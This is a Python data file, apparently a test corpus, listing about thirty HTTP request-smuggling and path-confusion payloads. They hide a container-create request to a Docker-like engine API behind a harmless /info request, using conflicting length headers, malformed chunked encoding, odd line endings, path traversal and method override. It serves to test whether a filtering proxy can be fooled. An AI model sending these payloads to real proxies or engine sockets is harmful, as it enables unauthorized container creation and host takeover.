"""Requests that hide another one, or another path, from whoever reads them in another way than the engine."""

from __future__ import annotations

INFO = b"GET /info HTTP/1.1\r\nHost: d\r\n\r\n"
SMUGGLED = b"POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Length: 0\r\n\r\n"
CORPUS = [
    INFO[:-2] + b"Content-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED,
    INFO + SMUGGLED,
    INFO[:-2] + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    INFO[:-2] + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    INFO[:-2] + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    INFO[:-2] + b"Transfer-Encoding:\x0bchunked\r\n\r\n" + SMUGGLED,
    INFO[:-2] + b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n" + SMUGGLED,
    INFO[:-2] + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED,
    INFO[:-2] + b"Content-Length: 0_\r\n\r\n" + SMUGGLED,
    INFO[:-2] + b"X: a\r\n \r\n\r\n" + SMUGGLED,
    INFO[:-2] + b"X: a\n\n" + SMUGGLED,
    INFO[:-2] + b"X: a\r\r\n\r\n" + SMUGGLED,
    INFO[:-2] + b"X: a\x00\r\n\r\n" + SMUGGLED,
    INFO[:-2] + b"Upgrade: tcp\r\nConnection: Upgrade\r\n\r\n" + SMUGGLED,
    INFO[:-2] + b"Expect: 100-continue\r\nContent-Length: 4\r\n\r\nabcd" + SMUGGLED,
    b"\r\n" + SMUGGLED,
    b"GET /info\r\n\r\n" + SMUGGLED,
    b"GET /info HTTP/1.1\nHost: d\n\n" + SMUGGLED,
    b"GET /info HTTP/1.1\r\nHost: d\r\n\n" + SMUGGLED,
    b"GET /info?x=%0d%0a%0d%0a" + SMUGGLED,
    b"GET http://d/info HTTP/1.1\r\nHost: d\r\n\r\n" + SMUGGLED,
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SMUGGLED,
    b"CONNECT /containers/create HTTP/1.1\r\nHost: d\r\n\r\n",
    b"GET /containers/../containers/create HTTP/1.1\r\nHost: d\r\n\r\n",
    b"POST /containers//create HTTP/1.1\r\nHost: d\r\n\r\n",
    b"POST /%63ontainers/create HTTP/1.1\r\nHost: d\r\n\r\n",
    b"POST /containers/x/json/../../create HTTP/1.1\r\nHost: d\r\n\r\n",
    b"POST /v1.41/../containers/create HTTP/1.1\r\nHost: d\r\n\r\n",
    b"GET /images/../containers/x/json HTTP/1.1\r\nHost: d\r\n\r\n",
    b"POST /containers/create HTTP/1.1\r\nHost: d\r\nX-HTTP-Method-Override: GET\r\n\r\n",
]
